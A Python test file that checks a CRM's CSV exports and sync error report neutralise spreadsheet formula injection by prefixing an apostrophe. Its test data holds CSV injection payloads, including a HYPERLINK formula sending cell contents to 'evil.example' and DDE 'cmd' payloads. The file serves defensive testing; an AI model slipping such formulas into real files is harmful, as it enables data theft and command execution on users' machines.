"""CSV cells that a spreadsheet would run as a formula (starting with = + - @, a tab or a carriage
return) are written with a leading apostrophe in every export (issue 13, item 8): names can arrive from
Mailchimp's public signup form. Importing such an export gives the values back without the apostrophe."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy.orm import Session

from constituent.crm.contacts import service as contacts
from constituent.crm.contacts.schemas import ContactCreate, EmailIn
from constituent.crm.imports.exporter import export_csv
from constituent.crm.imports.importer import import_csv
from constituent.integrations.mailchimp.sync.error_report import errors_csv
from constituent.integrations.mailchimp.sync.models import RunMode, RunTrigger, SyncRun, SyncRunError
from constituent.kit.csv_cells import FORMULA_STARTS, neutralise
from constituent.kit.db import make_engine, make_sessionmaker
from constituent.models import Base
from tests.integrations.mailchimp.sync.desired_helpers import add_integration

ATTACKS = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "last_name": "+cmd|' /C calc'!A0",
    "city": "-2+3+cmd|' /C calc'!A0",
    "organization_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "street": "\t=1+1",
    "state": "\r=1+1",
}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Ann", "O'Neil", "", "1+1", "a=b", "ann@example.org"])
def test_other_cells_are_left_alone(text: str) -> None:
    assert neutralise(text) == text


def _contact_with_formulas(session: Session) -> None:
    data = ContactCreate(**ATTACKS, emails=[EmailIn(address="ann@example.org")])
    contacts.create_contact(session, data, "Mailchimp")
    session.commit()


def test_the_contacts_export_neutralises_every_formula_cell(session: Session, tmp_path: Path) -> None:
    _contact_with_formulas(session)
    path = tmp_path / "contacts.csv"
    export_csv(session, path)
    [row] = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    [contact] = contacts.list_contacts(session, limit=10, offset=0)[0]
    for column in ATTACKS:
        stored = getattr(contact, column)
        assert stored.startswith(FORMULA_STARTS), column
        assert row[column] == "'" + stored, column


def test_importing_the_export_gives_the_values_back(session: Session, tmp_path: Path) -> None:
    _contact_with_formulas(session)
    path = tmp_path / "contacts.csv"
    export_csv(session, path)
    engine = make_engine(f"sqlite:///{tmp_path / 'copy.db'}")
    Base.metadata.create_all(engine)
    copy = make_sessionmaker(engine)
    assert import_csv(copy, path).created == 1
    with copy() as other:
        [contact] = contacts.list_contacts(other, limit=10, offset=0)[0]
        assert (contact.first_name, contact.last_name) == (ATTACKS["first_name"], ATTACKS["last_name"])
        assert (contact.city, contact.organization_name) == (ATTACKS["city"], ATTACKS["organization_name"])
    engine.dispose()


def test_the_sync_error_report_neutralises_every_formula_cell(session: Session) -> None:
    integration = add_integration(session)
    run = SyncRun(integration_id=integration.id, trigger=RunTrigger.cli, mode=RunMode.incremental)
    session.add(run)
    session.flush()
    session.add(
        SyncRunError(run_id=run.id, email="=x@example.org", code="@code", message="=cmd|' /C calc'!A0")
    )
    session.flush()
    [row] = list(csv.DictReader(errors_csv(session, run.id).splitlines()))
    assert (row["email"], row["code"], row["message"]) == ("'=x@example.org", "'@code", "'=cmd|' /C calc'!A0")
